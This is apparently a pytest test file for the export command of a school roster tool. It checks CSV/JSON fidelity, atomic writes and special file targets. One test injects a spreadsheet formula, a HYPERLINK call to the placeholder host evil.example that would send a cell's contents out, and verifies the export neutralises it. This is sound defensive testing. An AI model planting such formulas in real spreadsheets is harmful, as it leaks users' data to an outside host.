"""`export`: whole, exact and harmless files (DESIGN §8, §9)."""

import csv
import io
import json
import os
import socket
import sys
import threading
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.compose import PRACTICE, Options, PracticeSis, program
from app.engine.saving import neutral
from app.roster.entities import ENTITIES
from app.roster.values import Boolean, Number, Reference
from app.store import reads
from app.store.database import Database
from app.store.reads import RecordRow
from tests.cli.conftest import NAME, Ended

Call = Callable[..., Ended]
RISKY = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture
def synced(connected: Call) -> Call:
    """``connected``, after a first sync."""
    ended = connected("sync", NAME)
    assert ended.code == 0, ended.err
    return connected


def _as_it_was(text: str) -> str:
    return text[1:] if text.startswith("'") and text.lstrip("'").startswith(RISKY) else text


def _read_csv(text: str, entity: str) -> list[dict[str, Any]]:
    """The records of a CSV export, by nothing but what the declaration says of each field."""
    found = []
    for row in csv.DictReader(io.StringIO(text, newline="")):
        record: dict[str, Any] = {"id": int(row["id"])}
        for field in ENTITIES[entity].fields:
            cell = row[field.name]
            if not cell:
                record[field.name] = None
            elif field.kind.is_list or isinstance(field.kind, Boolean | Number | Reference):
                record[field.name] = json.loads(cell)
            else:
                record[field.name] = _as_it_was(cell)
        found.append(record)
    return found


@pytest.mark.parametrize("entity", ["orgs", "users", "demographics", "enrollments"])
def test_csv_and_json_say_the_same_and_all_of_it(
    synced: Call, tmp_path: Path, entity: str, sis: PracticeSis
) -> None:
    """§9: exported records carry `id`, references are ids; both forms give every record back."""
    paths = {form: tmp_path / f"{entity}.{form}" for form in ("csv", "json")}
    for form, path in paths.items():
        assert synced("export", entity, "--format", form, "--out", path).code == 0
    told = json.loads(paths["json"].read_text(encoding="utf-8"))
    with paths["csv"].open(encoding="utf-8", newline="") as file:
        assert _read_csv(file.read(), entity) == told
    assert told == synced("records", "list", entity, "--limit", 10_000, "--json").document
    assert len(told) == sis.ready.counts[entity]


def test_an_exported_list_passes_its_own_normal_form(synced: Call, tmp_path: Path) -> None:
    """SEMANTICS A1: what was exported normalises to exactly what is in the roster."""
    path = tmp_path / "users.json"
    synced("export", "users", "--format", "json", "--out", path)
    told = {record["id"]: record for record in json.loads(path.read_text(encoding="utf-8"))}
    with program(Options(data_dir=tmp_path / "data")) as opened:
        for row in reads.all_records(opened.database, "users"):
            for field in ENTITIES["users"].fields:
                assert field.kind.normal(told[row.id][field.name]) == row.values[field.name]


@given(st.text(alphabet=[*RISKY, "'", "a", " ", '"', ","], max_size=6))
def test_neutral_text_starts_no_formula_and_can_be_taken_back(text: str) -> None:
    """§8: exports neutralise spreadsheet formulas; the apostrophe can be taken away again."""
    assert not neutral(text).startswith(RISKY)
    assert _as_it_was(neutral(text)) == text


def test_a_formula_in_the_roster_is_harmless_in_csv(synced: Call, data_dir: Path) -> None:
    """§8: a name that a spreadsheet would run is text there, and itself in JSON."""
    formula = '=HYPERLINK("http://evil.example?"&A1)'
    [user] = synced("records", "list", "users", "--limit", 1, "--json").document
    with program(Options(data_dir=data_dir)) as opened:
        opened.engine.edit("users", user["id"], {"given_name": formula}, "test")
    out = synced("export", "users", "--format", "csv", "--out", "-").out
    [row] = [row for row in csv.DictReader(io.StringIO(out)) if row["id"] == str(user["id"])]
    assert row["given_name"] == f"'{formula}"
    told = json.loads(synced("export", "users", "--format", "json", "--out", "-").out)
    assert told[0]["given_name"] == formula


def test_all_writes_a_file_for_each_type(synced: Call, tmp_path: Path, sis: PracticeSis) -> None:
    """§9: `export --all` into a folder; with --json the document tells each file."""
    ended = synced("export", "--all", "--format", "csv", "--out", tmp_path / "new", "--json")
    assert ended.code == 0
    assert [one["entity"] for one in ended.document] == list(ENTITIES)
    assert sum(one["records"] for one in ended.document) == sum(sis.ready.counts.values())
    for one in ended.document:
        text = Path(one["path"]).read_text(encoding="utf-8")
        assert text.splitlines()[0].split(",")[0] == "id"
    assert len(list((tmp_path / "new").iterdir())) == len(ENTITIES)


def test_a_file_that_fails_half_way_leaves_the_old_one(
    synced: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file has its name only when it is whole; what was there before stays."""
    path = tmp_path / "orgs.csv"
    path.write_text("before", encoding="utf-8")

    def full(database: Database, entity: str) -> Iterator[RecordRow]:
        yield next(honest(database, entity))
        raise OSError(28, "No space left on device")

    honest = reads.all_records
    monkeypatch.setattr(reads, "all_records", full)
    ended = synced("export", "orgs", "--format", "csv", "--out", path)
    assert ended.code == 1
    assert "full" in ended.err
    assert path.read_text(encoding="utf-8") == "before"
    assert [one.name for one in tmp_path.iterdir() if "part" in one.name] == []


def test_a_place_that_cannot_be_written_is_told(synced: Call, tmp_path: Path) -> None:
    """Exit code 1 and a sentence with the path, no traceback."""
    folder = tmp_path / "folder"
    folder.mkdir()
    ended = synced("export", "orgs", "--format", "csv", "--out", folder)
    assert ended.code == 1
    assert str(folder) in ended.err
    assert "Traceback" not in ended.err


posix = pytest.mark.skipif(sys.platform == "win32", reason="files of POSIX")


@posix
def test_a_pipe_is_written_through_and_stays(synced: Call, tmp_path: Path) -> None:
    """What is no file is never replaced by one."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    got: list[str] = []
    reader = threading.Thread(
        target=lambda: got.append(pipe.read_text(encoding="utf-8")), daemon=True
    )
    reader.start()
    assert synced("export", "orgs", "--format", "json", "--out", pipe).code == 0
    reader.join(10)
    assert pipe.is_fifo()
    assert (
        json.loads(got[0]) == synced("records", "list", "orgs", "--limit", 999, "--json").document
    )


@posix
def test_a_device_stays_a_device(synced: Call, tmp_path: Path) -> None:
    """A terminal, a pipe of the shell or /dev/null is written to, by way of a link, too."""
    ours, theirs = os.openpty()
    link = tmp_path / "link"
    link.symlink_to(os.ttyname(theirs))
    try:
        assert synced("export", "demographics", "--format", "csv", "--out", "/dev/null").code == 0
        with program(Options(data_dir=tmp_path / "none")):
            pass  # an empty roster: a terminal that nobody reads holds little
        ended = synced("export", "orgs", "--format", "json", "--out", link, data=tmp_path / "none")
        assert ended.code == 0, ended.err
        assert os.read(ours, 100).split() == [b"[", b"]"]
    finally:
        os.close(ours)
        os.close(theirs)
    assert Path("/dev/null").is_char_device()
    assert link.is_symlink()


@posix
def test_a_full_device_is_told(synced: Call) -> None:
    """An error at the last byte is an error, 1."""
    if not Path("/dev/full").exists():
        pytest.skip("this system has no /dev/full")
    ended = synced("export", "orgs", "--format", "json", "--out", "/dev/full")
    assert (ended.code, "full" in ended.err) == (1, True)


@posix
def test_a_socket_is_refused(synced: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Exit code 2 and a sentence; the socket stays, and nothing lies beside it."""
    monkeypatch.chdir(tmp_path)  # the path of a socket must be short
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("door")
        ended = synced("export", "orgs", "--format", "csv", "--out", "door", "--json")
        assert ended.code == 2
        assert ended.document["error"]["code"] == "export_is_no_file"
        assert Path("door").is_socket()
    assert [one.name for one in tmp_path.iterdir() if "part" in one.name] == []


@posix
def test_a_link_to_a_file_stays_a_link(synced: Call, tmp_path: Path) -> None:
    """What the link leads to is replaced, or made where it is not there yet."""
    there, link, dangling = (tmp_path / name for name in ("there.json", "link", "dangling"))
    there.write_text("before", encoding="utf-8")
    link.symlink_to(there)
    dangling.symlink_to(tmp_path / "new.json")
    for path in (link, dangling):
        assert synced("export", "orgs", "--format", "json", "--out", path).code == 0
        assert path.is_symlink()
        assert json.loads(path.resolve().read_text(encoding="utf-8"))


@posix
@pytest.mark.parametrize("place", ["loop", "/dev/null/orgs.csv", ""])
def test_a_place_that_is_none_is_told(
    synced: Call, tmp_path: Path, place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A link to itself, a file taken for a folder, the blank name: 1 and one line each."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    ended = synced("export", "orgs", "--format", "csv", "--out", place)
    assert ended.code == 1
    assert len(ended.err.splitlines()) == 1
    assert (tmp_path / "loop").is_symlink()


@pytest.mark.parametrize(
    "arguments",
    [
        ["--format", "csv", "--out", "x"],
        ["orgs", "--all", "--format", "csv", "--out", "x"],
        ["--all", "--format", "csv", "--out", "-"],
        ["orgs", "--format", "xml", "--out", "x"],
        ["orgs", "--format", "csv"],
        ["wizards", "--format", "csv", "--out", "x"],
        ["orgs", "--format", "csv", "--out", "-", "--json"],
    ],
)
def test_what_cannot_be_asked_is_2(
    call: Call, arguments: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """§9: usage errors write nothing."""
    monkeypatch.chdir(tmp_path)
    ended = call("export", *arguments)
    assert ended.code == 2
    assert len(ended.err.splitlines()) == 1
    assert not Path("x").exists()


def test_memory_does_not_grow_with_the_roster(synced: Call, data_dir: Path, tmp_path: Path) -> None:
    """§11: no memory that grows with the district; rows are written as they are read."""
    with program(Options(data_dir=data_dir)) as opened:
        [one] = list(reads.all_records(opened.database, "orgs"))[:1]
        with opened.database.writing() as tx:
            columns = ", ".join(f'"{name}"' for name in ENTITIES["orgs"].field_names)
            tx.run(
                "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 20000) "
                "INSERT INTO orgs (id, version, alive, created_in, changed_in, "
                f"{columns}) SELECT 10000000 + i, 1, 1, 1, 1, {columns} FROM orgs, n "
                "WHERE orgs.id = ?",
                (one.id,),
            )
    path = tmp_path / "orgs.csv"
    synced("export", "demographics", "--format", "csv", "--out", path)
    tracemalloc.start()
    try:
        assert synced("export", "orgs", "--format", "csv", "--out", path).code == 0
        _now, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert path.stat().st_size > 600_000
    assert most < 1_500_000


def test_the_practice_roster_is_exported_with_practice(call: Call) -> None:
    """§2: the practice district has a data folder of its own, named by --practice."""
    assert call("demo", "--students", 60).code == 0
    assert json.loads(call("export", "orgs", "--format", "json", "--out", "-").out) == []
    told = call("--practice", "export", "orgs", "--format", "json", "--out", "-").out
    assert json.loads(told)
    assert PRACTICE in [
        one["connector"] for one in call("connectors", "list", "--practice", "--json").document
    ]
